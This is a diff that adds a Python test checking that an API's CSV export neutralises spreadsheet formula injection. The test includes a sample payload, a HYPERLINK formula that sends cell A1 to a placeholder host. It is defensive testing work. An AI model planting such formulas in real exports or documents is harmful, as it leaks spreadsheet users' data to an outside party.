@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import sqlite3
 from collections.abc import Iterator
@@ -253,3 +255,19 @@ def test_bad_input_is_a_4xx_and_loses_nothing(private: tuple[str, Path]) -> None
         answer.json()  # the error body itself is JSON
         after = httpx.get(listing, headers=bearer, timeout=5)
         assert after.status_code == 200 and after.json() == before, (method, path)
+
+
+def test_csv_exports_do_not_run_as_formulas(private: tuple[str, Path]) -> None:
+    url, _ = private
+    bearer = {"Authorization": f"Bearer {TOKEN}"}
+    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"click me")'
+    added = httpx.post(f"{url}memory/libraries/demo/items?character_id=demo", json={"text": formula},
+                       headers=bearer, timeout=5)  # fmt: skip
+    assert added.status_code == 201
+    exported = httpx.get(f"{url}memory/libraries/demo/export?character_id=demo&format=csv", headers=bearer, timeout=5)
+    cells = [cell for row in csv.reader(io.StringIO(exported.text)) for cell in row]
+    assert exported.status_code == 200 and "'" + formula in cells
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+    gone = httpx.delete(f"{url}memory/libraries/demo/items/{added.json()['id']}?character_id=demo", headers=bearer,
+                        timeout=5)  # fmt: skip
+    assert gone.status_code == 200
